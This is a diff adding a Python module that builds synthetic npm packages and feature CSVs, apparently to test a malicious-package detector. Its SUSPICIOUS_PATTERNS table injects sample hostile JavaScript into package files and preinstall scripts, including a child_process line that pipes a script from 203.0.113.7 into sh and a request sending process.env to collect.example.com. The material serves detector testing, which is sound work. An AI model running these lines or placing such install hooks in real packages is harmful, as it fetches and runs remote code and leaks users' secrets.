@@ -0,0 +1,165 @@
+import os
+import io
+import json
+import tarfile
+
+import numpy as np
+
+
+# 特征名，与特征提取程序输出的特征文件顺序一致
+SYNTHETIC_FEATURE_NAMES = [
+    'hasInstallScript',
+    'containIP',
+    'useBase64Conversion',
+    'useBase64ConversionInInstallScript',
+    'containBase64StringInJSFile',
+    'containBase64StringInInstallScript',
+    'containBytestring',
+    'containDomainInJSFile',
+    'containDomainInInstallScript',
+    'useBuffer',
+    'useEval',
+    'requireChildProcessInJSFile',
+    'requireChildProcessInInstallScript',
+    'accessFSInJSFile',
+    'accessFSInInstallScript',
+    'accessNetworkInJSFile',
+    'accessNetworkInInstallScript',
+    'accessProcessEnvInJSFile',
+    'accessProcessEnvInInstallScript',
+    'containSuspicousString',
+    'accessCryptoAndZip',
+    'accessSensitiveAPI'
+]
+
+# 每个特征为true的概率，分别对应良性包与恶意包
+BENIGN_FEATURE_PROBABILITY = 0.08
+MALICIOUS_FEATURE_PROBABILITY = 0.35
+
+# 注入JS文件的可疑代码
+SUSPICIOUS_PATTERNS = {
+    'eval': "eval(atob('Y29uc29sZS5sb2coMSk='));\n",
+    'child_process': "const { exec } = require('child_process');\nexec('curl http://203.0.113.7/p.sh | sh');\n",
+    'base64': "const payload = Buffer.from('aHR0cHM6Ly9leGFtcGxlLmNvbS9jb2xsZWN0', 'base64').toString();\n",
+    'env': "require('https').request({ host: 'collect.example.com', path: '/' + JSON.stringify(process.env) }).end();\n"
+}
+
+# 填充JS文件的普通代码
+FILLER_CODE = '''function add{index}(a, b) {{
+    const result = [];
+    for (let i = 0; i < a.length; i++) {{
+        result.push(a[i] + (b[i] || 0));
+    }}
+    return result.map((value) => value * {index}).filter(Boolean);
+}}
+module.exports.add{index} = add{index};
+'''
+
+
+def make_js_file(size: int, patterns: list) -> str:
+    """
+    生成一个JS文件
+    :param size: 大致的文件大小（字节）
+    :param patterns: 注入的可疑代码，SUSPICIOUS_PATTERNS的键
+    """
+    parts = [SUSPICIOUS_PATTERNS[pattern] for pattern in patterns]
+    length = sum(len(part) for part in parts)
+    index = 0
+    while length < size:
+        part = FILLER_CODE.format(index=index)
+        parts.append(part)
+        length += len(part)
+        index += 1
+    return ''.join(parts)
+
+def make_package_files(name: str, version: str = '1.0.0', install_script: bool = False, js_files: int = 4, js_file_size: int = 4096, patterns: list = []) -> dict:
+    """
+    生成一个npm包的文件
+    :param install_script: 是否包含安装脚本（preinstall），安装脚本中同样注入可疑代码
+    :param js_files: JS文件数
+    :param js_file_size: 每个JS文件的大致大小（字节）
+    :param patterns: 注入第一个JS文件的可疑代码，SUSPICIOUS_PATTERNS的键
+    :return: 包内相对路径到文件内容的字典
+    """
+    package_json = {'name': name, 'version': version, 'main': 'index.js', 'license': 'MIT'}
+    files = {}
+    if install_script:
+        package_json['scripts'] = {'preinstall': 'node install.js'}
+        files['install.js'] = make_js_file(js_file_size, patterns)
+    files['package.json'] = json.dumps(package_json, indent=2)
+    for i in range(js_files):
+        file_name = 'index.js' if i == 0 else os.path.join('lib', f'module{i}.js')
+        files[file_name] = make_js_file(js_file_size, patterns if i == 0 else [])
+    return files
+
+def write_package(package_path: str, files: dict):
+    """将包的文件写入文件夹"""
+    for file_name, content in files.items():
+        file_path = os.path.join(package_path, file_name)
+        os.makedirs(os.path.dirname(file_path), exist_ok=True)
+        with open(file_path, 'w') as f:
+            f.write(content)
+
+def write_tarball(tarball_path: str, files: dict):
+    """与npm pack一样，将包的文件写入tarball中的package文件夹"""
+    with tarfile.open(tarball_path, 'w:gz') as tar:
+        for file_name, content in files.items():
+            data = content.encode()
+            info = tarfile.TarInfo(os.path.join('package', file_name))
+            info.size = len(data)
+            info.mtime = 0
+            tar.addfile(info, io.BytesIO(data))
+
+def generate_packages(dir_path: str, count: int, seed: int = 0, malicious_ratio: float = 0.5, js_files: int = 4, js_file_size: int = 4096, tarball: bool = True) -> list:
+    """
+    生成多个合成的npm包，恶意包包含安装脚本与随机的可疑代码，良性包中少数包含安装脚本
+    :param dir_path: 输出文件夹
+    :param count: 包数
+    :param seed: 随机种子，相同的参数生成相同的包
+    :param malicious_ratio: 恶意包比例
+    :param tarball: 生成.tgz（与unknown数据集相同），否则生成包文件夹（与恶意包、良性包数据集相同）
+    :return: 生成的tarball或包文件夹路径列表
+    """
+    rng = np.random.default_rng(seed)
+    os.makedirs(dir_path, exist_ok=True)
+    pattern_names = list(SUSPICIOUS_PATTERNS)
+    paths = []
+    for i in range(count):
+        malicious = rng.random() < malicious_ratio
+        if malicious:
+            install_script = True
+            patterns = [pattern for pattern in pattern_names if rng.random() < 0.5]
+        else:
+            install_script = rng.random() < 0.1
+            patterns = []
+        name = f'synthetic-{"mal" if malicious else "ben"}-{i}'
+        files = make_package_files(name, install_script=install_script, js_files=js_files, js_file_size=js_file_size, patterns=patterns)
+        if tarball:
+            path = os.path.join(dir_path, f'{name}-1.0.0.tgz')
+            write_tarball(path, files)
+        else:
+            path = os.path.join(dir_path, name)
+            write_package(path, files)
+        paths.append(path)
+    return paths
+
+def generate_feature_matrix(count: int, seed: int = 0, malicious_ratio: float = 0.5) -> list:
+    """
+    生成合成的特征矩阵，特征按标签以不同概率独立取值
+    :param count: 包数
+    :return: [特征矩阵(numpy bool数组), 标签数组, 包名列表]
+    """
+    rng = np.random.default_rng(seed)
+    malicious = rng.random(count) < malicious_ratio
+    probability = np.where(malicious, MALICIOUS_FEATURE_PROBABILITY, BENIGN_FEATURE_PROBABILITY)
+    feature_matrix = rng.random((count, len(SYNTHETIC_FEATURE_NAMES))) < probability[:, None]
+    labels = np.where(malicious, 'malicious', 'benign')
+    package_names = [f'synthetic-{i}@1.0.0' for i in range(count)]
+    return [feature_matrix, labels, package_names]
+
+def write_feature_csvs(dir_path: str, feature_matrix, package_names: list):
+    """按特征提取程序的格式，为每个包写入一个特征文件"""
+    os.makedirs(dir_path, exist_ok=True)
+    for package_name, feature_vec in zip(package_names, feature_matrix):
+        with open(os.path.join(dir_path, package_name + '.csv'), 'w') as f:
+            f.write(''.join(f'{name},{"true" if value else "false"}\n' for name, value in zip(SYNTHETIC_FEATURE_NAMES, feature_vec)))